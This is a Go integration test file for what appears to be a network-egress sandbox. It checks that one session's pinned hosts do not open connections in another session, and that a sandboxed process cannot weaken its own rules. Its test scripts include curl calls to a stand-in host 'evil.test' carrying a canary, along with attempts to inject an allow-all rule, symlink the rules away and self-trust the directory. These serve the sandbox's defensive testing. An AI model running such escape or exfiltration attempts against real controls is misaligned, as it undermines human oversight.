package integration

import (
	"fmt"
	"io"
	"os"
	"strings"
	"testing"

	"outcall/integration/harness"
)

// Invariant 6: a pin is its session's own. What one session has resolved opens
// nothing in another under the same rules, by whatever bytes.
func TestPinsNeverCrossSessions(t *testing.T) {
	b := harness.New(t)
	const name, shared, neighbour = "api.allowed.test", "shared.allowed.test", "shared.evil.test"
	rules := b.Rules("pins.yaml", allowRule(name)+allowRule(shared))
	first := keep(t, b, []string{"-q", "--rules", rules}, append(keptSpecs(b, name), keptSpecs(b, shared)...))
	defer first.in.Close()

	k, m := b.Canary(t), b.Mark()
	var tries, hosts []string
	for _, n := range []string{name, shared} {
		for _, a := range b.AddrsOf(n) {
			tries = append(tries,
				fmt.Sprintf("%s tcp '%s' %s %s %s", harness.Probe, spoken(k.Word), at(a, b.Ports.Echo), at(a, 443), at(a, 80)),
				fmt.Sprintf("%s tls %s %s", harness.Probe, n, at(a, 443)),
				fmt.Sprintf("%s connect 10.200.0.1:8080 'CONNECT %s HTTP/1.1' 16", harness.Probe, at(a, 443)))
			hosts = append(hosts, a.String())
		}
	}
	// The third line may resolve for itself, of its own session alone.
	script := strings.Join(tries, "\n") + "\necho tried; read x; curl -sS --noproxy '*' https://" + name + "/; " + strings.Join(tries[:2], "\n")
	second, in := started(t, b, []string{"-q", "--rules", rules}, script)
	second.WaitFor("tried")
	lines := harness.Result{Stdout: second.Output()}.Lines(t)
	for _, l := range lines {
		if l.OK && !strings.HasPrefix(l.Data, "403") {
			t.Errorf("opened by another session's pin: %+v", l)
		}
	}
	k.MustNotArrive(t)
	b.MustBeQuiet(t, m, nil)
	var d denials
	for _, a := range hosts {
		for _, p := range []uint16{b.Ports.Echo, 80} {
			d.one(t, b, second.Name, "/probe", func(e harness.Event) bool { return e.IP == a && e.Port == p && e.Layer == "flow" })
		}
		d.one(t, b, second.Name, "/probe", func(e harness.Event) bool { return e.IP == a && e.Layer == "connect" })
	}

	d.mostNamed(t)

	// A session with the neighbour's name at the same address is no way to it.
	other := b.Rules("other.yaml", allowRule(neighbour))
	third, _ := started(t, b, []string{"-q", "--rules", other}, "curl -sS --noproxy '*' https://"+neighbour+"/; "+
		harness.Probe+" tls "+shared+" "+at(b.V4(t, shared), 443)+"; curl -sS --noproxy '*' -H 'Host: "+shared+"' http://"+neighbour+"/"+k.Word)
	out := third.Wait()
	mustContain(t, "the neighbour's own name", out.Stdout, "origin "+neighbour)
	if l := out.Lines(t)[0]; l.OK {
		t.Errorf("the other session's name at a shared address: %+v", l)
	}
	k.MustNotArrive(t)

	// And the proof that a session's own question opens it; the first lives on.
	io.WriteString(in, "go\n")
	res := second.Wait()
	mustContain(t, "the second session, by its own question", res.Stdout, "origin "+name)
	k.MustArrive(t)
	first.mustLive(b, 1, func(string) bool { return true })
	first.in.Close()
	first.Wait()
}

// started starts a shell script in a session, with its standard input.
func started(t *testing.T, b *harness.Bed, flags []string, script string) (*harness.Proc, io.WriteCloser) {
	t.Helper()
	cmd, name := b.SandboxCommand(flags, "sh", "-c", script)
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	p := b.Start(cmd)
	p.Name = name
	return p, in
}

// Invariant 4: rule files that the command finds in its own directory are
// edited from inside in every way, and do nothing: not at once, not after a
// reload, not in the next session.
func TestK7RuleFileEditedFromInside(t *testing.T) {
	for _, given := range []string{"rules", "rules/own.yaml", "way", "way/own.yaml"} {
		t.Run(strings.ReplaceAll(given, "/", " "), func(t *testing.T) { ruleFileEdited(t, given) })
	}
}

// ruleFileEdited gives a session rule files by a path in its work directory, in
// which "way" is a link to "rules".
func ruleFileEdited(t *testing.T, given string) {
	b := harness.New(t)
	const evil = "  - id: evil\n    priority: -1\n    condition: \"true\"\n    action: allow\n"
	file := b.Write("work/rules/own.yaml", "version: \"1\"\nrules:\n"+allowRule("api.allowed.test"))
	if err := os.Symlink(b.Work+"/rules", b.Work+"/way"); err != nil {
		t.Fatal(err)
	}
	given = b.Work + "/" + given
	want := hashes(t, []string{file})
	k, m := b.Canary(t), b.Mark()
	edit := "exec 2>&1; printf '" + strings.ReplaceAll(evil, "\n", `\n`) + "' > /tmp/evil; cp /tmp/evil /tmp/evil2\n" +
		"cat /tmp/evil >> rules/own.yaml; cp /tmp/evil rules/own.yaml; mv /tmp/evil rules/own.yaml; rm -f rules/own.yaml; mv rules old; ln -sfn /tmp rules\n" +
		"cp /tmp/evil rules/new.yaml; ln rules/own.yaml hard.yaml; chmod 777 rules rules/own.yaml; printf x | tee -a way/own.yaml\n" +
		"rm -rf way; mkdir way; { echo 'version: \"1\"'; echo 'rules:'; cat /tmp/evil2; } > way/own.yaml\n" +
		"mkdir -p .outcall/rules; { echo 'version: \"1\"'; echo 'rules:'; printf '" + strings.ReplaceAll(evil, "\n", `\n`) + "'; } > .outcall/rules/x.yaml\n" +
		harness.Outcall + " rules reload; " + harness.Outcall + " trust .\n"
	try := "curl -sS --max-time 5 http://evil.test/" + k.Word + "; curl -sS --max-time 5 --noproxy '*' http://evil.test/" + k.Word + "; " +
		harness.Probe + " tcp '" + spoken(k.Word) + "' " + at(b.V4(t, "evil.test"), b.Ports.Echo) + " " + at(b.V6(t, "evil.test"), b.Ports.Echo) + "\n"
	p, in := started(t, b, []string{"-q", "--rules", given}, edit+try+"echo edited; read x\n"+try)
	p.WaitFor("edited")
	b.Outcall("--session", p.Name, "rules", "reload")
	list := b.Outcall("--session", p.Name, "rules", "list").Must(t, 0)
	mustContain(t, "rules list", list.Stdout, "allow-api-allowed-test")
	mustLack(t, "rules list", list.Stdout, "evil")
	io.WriteString(in, "go\n")
	in.Close()
	r := p.Wait()
	k.MustNotArrive(t)
	b.MustBeQuiet(t, m, nil)
	same(t, want, hashes(t, []string{file}))
	for _, a := range []string{b.V4(t, "evil.test").String(), b.V6(t, "evil.test").String()} {
		if n := b.Denials(t, r.Name, func(e harness.Event) bool { return e.IP == a && e.Layer == "flow" && e.Rule == "default policy" }); len(n) != 2 {
			t.Errorf("%d denials of 2 attempts at %s: %v", len(n), a, n)
		}
	}
	// What was left in the directory is no policy of the next session either.
	b.Sandbox([]string{"-q"}, "sh", "-c", try)
	b.Sandbox([]string{"-q", "--rules", given}, "sh", "-c", try)
	k.MustNotArrive(t)
	b.MustBeQuiet(t, m, nil)
}
